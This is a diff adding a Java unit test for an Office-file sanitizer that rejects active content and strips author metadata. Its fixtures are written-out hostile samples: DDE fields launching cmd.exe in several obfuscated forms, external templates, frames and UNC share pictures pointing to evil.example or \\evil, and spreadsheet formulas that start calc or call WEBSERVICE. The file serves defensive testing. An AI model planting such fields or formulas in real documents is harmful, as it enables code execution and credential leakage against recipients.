@@ -1,0 +1,230 @@
+package hmnet.formats.other;
+
+import static hmnet.formats.other.Pieces.latin;
+import static hmnet.formats.other.Pieces.relations;
+import static hmnet.formats.other.Pieces.types;
+import static hmnet.formats.other.Pieces.zip;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import hmnet.formats.base.Note;
+import hmnet.formats.base.Unreadable;
+import hmnet.formats.base.archive.Archive;
+import java.nio.charset.StandardCharsets;
+import java.util.LinkedHashMap;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+/// G3: an office file is what its list allows; what fetches or starts something is found however it is written.
+class HostileOfficeTest {
+    private static final String BEGIN = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
+    private static final String END = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
+
+    private static String outcome(Map<String, byte[]> members) {
+        try {
+            OtherFile.read(zip(members), "x.docx");
+            return "shown";
+        } catch (Unreadable bad) {
+            return bad.note().code();
+        }
+    }
+
+    private static Map<String, byte[]> words(String body) {
+        var members = Pieces.word();
+        members.put("word/document.xml", body(body).getBytes(StandardCharsets.UTF_8));
+        return members;
+    }
+
+    private static String body(String body) {
+        return "<?xml version=\"1.0\"?><w:document xmlns:w=\"urn:w\" xmlns:r=\"urn:r\" xmlns:v=\"urn:v\"><w:body>"
+                + body + "</w:body></w:document>";
+    }
+
+    private static String run(String instruction) {
+        return "<w:r><w:instrText>" + instruction + "</w:instrText></w:r>";
+    }
+
+    /// A relation of the document that leads out of the archive.
+    private static Map<String, byte[]> leadingOut(String kind, String target, String mode) {
+        var members = Pieces.word();
+        members.put(
+                "word/_rels/document.xml.rels",
+                latin(
+                        "<Relationships><Relationship Id=\"r1\" Type=\"urn:x/%s\" Target=\"%s\" TargetMode=\"%s\"/></Relationships>"
+                                .formatted(kind, target, mode)));
+        return members;
+    }
+
+    /// A part that the document leads to.
+    private static Map<String, byte[]> with(String kind, String part, String type, byte[] content) {
+        var members = Pieces.word();
+        members.put(
+                "[Content_Types].xml",
+                types("/word/document.xml", "wordprocessingml.document.main+xml", "/word/" + part, type));
+        members.put("word/_rels/document.xml.rels", relations(kind, part));
+        members.put("word/" + part, content);
+        return members;
+    }
+
+    private static Map<String, byte[]> table(String sheet) {
+        var members = new LinkedHashMap<String, byte[]>();
+        members.put(
+                "[Content_Types].xml",
+                types(
+                        "/xl/workbook.xml",
+                        "spreadsheetml.sheet.main+xml",
+                        "/xl/sheet1.xml",
+                        "spreadsheetml.worksheet+xml"));
+        members.put("_rels/.rels", relations("officeDocument", "xl/workbook.xml"));
+        members.put("xl/workbook.xml", latin("<workbook><sheets/></workbook>"));
+        members.put("xl/_rels/workbook.xml.rels", relations("worksheet", "sheet1.xml"));
+        members.put("xl/sheet1.xml", latin("<worksheet>" + sheet + "</worksheet>"));
+        return members;
+    }
+
+    private static Map<String, byte[]> formula(String formula) {
+        return table("<c><f>" + formula + "</f><v>1</v></c>");
+    }
+
+    private static Map<String, Map<String, byte[]>> acting() {
+        var utf16 = Pieces.word();
+        utf16.put(
+                "word/document.xml",
+                ("\uFEFF" + body("<w:fldSimple w:instr=\"DDEAUTO cmd\"/>")).getBytes(StandardCharsets.UTF_16BE));
+        var files = new LinkedHashMap<String, Map<String, byte[]>>();
+        files.put("DDE over runs", words(BEGIN + run("DDE") + run("AUTO c:\\\\cmd.exe") + END));
+        files.put(
+                "DDE letter by letter",
+                words(BEGIN + run("D") + "<w:r><w:t>x</w:t></w:r>" + run("D") + run("E cmd") + END));
+        files.put("DDE in lower case", words(BEGIN + run("ddeauto cmd") + END));
+        files.put("DDE in one piece", words("<w:fldSimple w:instr=\" dde cmd\"/>"));
+        files.put("DDE by another prefix", words("<z:fldSimple xmlns:z=\"urn:w\" z:instr=\"DDE cmd\"/>"));
+        files.put("DDE made of another field", words(BEGIN + BEGIN + run("QUOTE 68 68 69") + END + run(" cmd") + END));
+        files.put("DDE that is never closed", words(BEGIN + run("DDE cmd")));
+        files.put("an instruction without a field", words(run("DDE cmd")));
+        files.put("in UTF-16", utf16);
+        files.put("a text of another file", words(BEGIN + run("includetext \"c:\\\\x\"") + END));
+        files.put(
+                "a picture of a share by a field",
+                words(BEGIN + run("INCLUDEPICTURE \"\\\\\\\\evil\\\\a.png\"") + END));
+        files.put("a link to a share by a field", words(BEGIN + run("HYPERLINK \"\\\\\\\\evil\\\\a\"") + END));
+        files.put("a picture of a share", leadingOut("image", "\\\\evil\\a.png", "External"));
+        files.put("a picture of a share, mode in another case", leadingOut("image", "file://evil/a.png", "EXTERNAL"));
+        files.put("a picture of a share without a mode", leadingOut("image", "file://evil/a.png", ""));
+        files.put("a picture drawn from a share", words("<v:imagedata src=\"\\\\evil\\a.png\"/>"));
+        files.put("a template of elsewhere", leadingOut("attachedTemplate", "https://evil.example/a.dotm", "External"));
+        files.put("a frame", leadingOut("frame", "https://evil.example", "External"));
+        files.put("a chunk of another format", with("aFChunk", "a.html", "x", latin("<html/>")));
+        files.put("a chunk by its element", words("<w:altChunk r:id=\"r1\"/>"));
+        files.put("a program within", with("oleObject", "embeddings/a.bin", "oleObject", latin("x")));
+        files.put("an active control", with("control", "activeX/a.xml", "x", latin("<ax/>")));
+        files.put(
+                "a style sheet that is something else",
+                with("styles", "styles.xml", "wordprocessingml.webSettings+xml", latin("<x/>")));
+        files.put("a picture that is something else", with("image", "media/a.png", "x", Pieces.pdf("")));
+        files.put("a relation nobody knows", with("unheard", "a.xml", "x", latin("<x/>")));
+        files.put("another program by a formula", formula("cmd|'/c calc'!A0"));
+        files.put("a service", formula("_xlfn.WEBSERVICE(\"https://evil.example\")"));
+        files.put("a service in lower case", formula("1+ webservice (\"https://evil.example\")"));
+        files.put("a picture of elsewhere", formula("_xlfn.IMAGE(\"https://evil.example\")"));
+        files.put("a live source", formula("RTD(\"x\",,\"y\")"));
+        files.put("a function of an add-in", formula("_xll.RUN()"));
+        files.put("a function nobody knows yet", formula("_xlfn.TOMORROW(1)"));
+        files.put("a link to a share by a formula", formula("HYPERLINK(\"\\\\evil\\a\")"));
+        files.put("a condition that fetches", table("<cfRule><formula>WEBSERVICE(A1)</formula></cfRule>"));
+        files.put("a link of DDE", table("<ddeLink ddeService=\"cmd\"/>"));
+        var connections = table("<x/>");
+        connections.put("xl/_rels/workbook.xml.rels", relations("connections", "connections.xml"));
+        connections.put("xl/connections.xml", latin("<connections/>"));
+        files.put("connections", connections);
+        var elsewhere = table("<x/>");
+        elsewhere.put("xl/_rels/workbook.xml.rels", relations("externalLink", "l.xml"));
+        files.put("links to other tables", elsewhere);
+        return files;
+    }
+
+    @Test
+    void whatFetchesOrStartsSomethingIsFoundHoweverItIsWritten() {
+        acting().forEach(
+                        (name, members) -> assertThat(outcome(members)).as(name).isEqualTo("active-content"));
+    }
+
+    @Test
+    void macrosAreFoundByRelationAndType() {
+        assertThat(outcome(with("vbaProject", "a.bin", "x", latin("x")))).isEqualTo("macro");
+        var typed = Pieces.word();
+        typed.put("[Content_Types].xml", types("/word/document.xml", "ms-word.document.MacroEnabled.main+xml"));
+        assertThat(outcome(typed)).isEqualTo("macro");
+        assertThat(outcome(with("xlMacrosheet", "a.xml", "x", latin("<x/>")))).isEqualTo("macro");
+    }
+
+    @Test
+    void whatOnlyShowsStays() {
+        assertThat(outcome(words(BEGIN + run(" PAGE ")
+                        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:t>1</w:t>" + END)))
+                .isEqualTo("shown");
+        assertThat(outcome(words(
+                        BEGIN + run("TOC \\o") + END + BEGIN + run("HYPERLINK \"https://hospital.example\"") + END)))
+                .isEqualTo("shown");
+        assertThat(outcome(formula("SUM(A1:A9)+_xlfn.XLOOKUP(1,A:A,B:B)&amp;\"a|b\"")))
+                .isEqualTo("shown");
+        assertThat(outcome(leadingOut("hyperlink", "https://hospital.example/", "External")))
+                .isEqualTo("shown");
+    }
+
+    @Test
+    void aLinkToAShareLeadsNowhereAndThatIsTold() throws Unreadable {
+        var file = OtherFile.read(zip(leadingOut("hyperlink", "file://evil/share", "External")), "x.docx");
+        assertThat(all(file.content())).doesNotContain("evil").contains("about:blank");
+        assertThat(file.notes()).extracting(Note::code).contains("links-removed");
+    }
+
+    @Test
+    void whoWroteItIsGoneWhereverItStands() throws Unreadable {
+        var members = words("<w:ins w:author=\"Kakuu Taro\" w:initials=\"KT\"><w:t>words</w:t></w:ins>"
+                + "<w:pic descr=\"C:\\Users\\Kakuu\\a.jpg\"/>");
+        members.put(
+                "[Content_Types].xml",
+                types(
+                        "/word/document.xml",
+                        "wordprocessingml.document.main+xml",
+                        "/word/comments.xml",
+                        "wordprocessingml.comments+xml",
+                        "/word/people.xml",
+                        "x"));
+        members.put(
+                "word/_rels/document.xml.rels",
+                relations("image", "media/a.jpg", "comments", "comments.xml", "people", "people.xml"));
+        members.put("word/media/a.jpg", Pieces.photograph());
+        members.put(
+                "word/comments.xml",
+                latin(
+                        "<w:comments xmlns:w=\"urn:w\"><w:comment w:author=\"Kakuu\"><w:t>ok</w:t></w:comment></w:comments>"));
+        members.put("word/people.xml", latin("<people><person>Kakuu</person></people>"));
+        members.put(
+                "_rels/.rels", relations("officeDocument", "word/document.xml", "thumbnail", "docProps/thumbnail.jpg"));
+        members.put("docProps/thumbnail.jpg", Pieces.photograph());
+        members.put("word/nobody-leads-here.xml", latin("<x>Kakuu</x>"));
+        var file = OtherFile.read(zip(members), "x.docx");
+        assertThat(all(file.content())).contains("words").doesNotContain("Kakuu", "KT", "GPS", "thumbnail", "people");
+        assertThat(file.notes()).extracting(Note::code).contains("metadata-removed", "metadata-kept");
+        assertThat(OtherFile.read(file.content(), "x.docx").content()).isEqualTo(file.content());
+    }
+
+    @Test
+    void nothingIsSaidToBeRemovedWhereNothingWas() throws Unreadable {
+        var members = Pieces.word();
+        members.remove("docProps/core.xml");
+        members.put("_rels/.rels", relations("officeDocument", "word/document.xml"));
+        assertThat(OtherFile.read(zip(members), "x.docx").notes())
+                .extracting(Note::code)
+                .doesNotContain("metadata-removed");
+    }
+
+    private static String all(byte[] archive) throws Unreadable {
+        var text = new StringBuilder();
+        for (var member : Archive.members(archive, name -> true)) {
+            text.append(member.name()).append(new String(member.content(), StandardCharsets.ISO_8859_1));
+        }
+        return text.toString();
+    }
+}
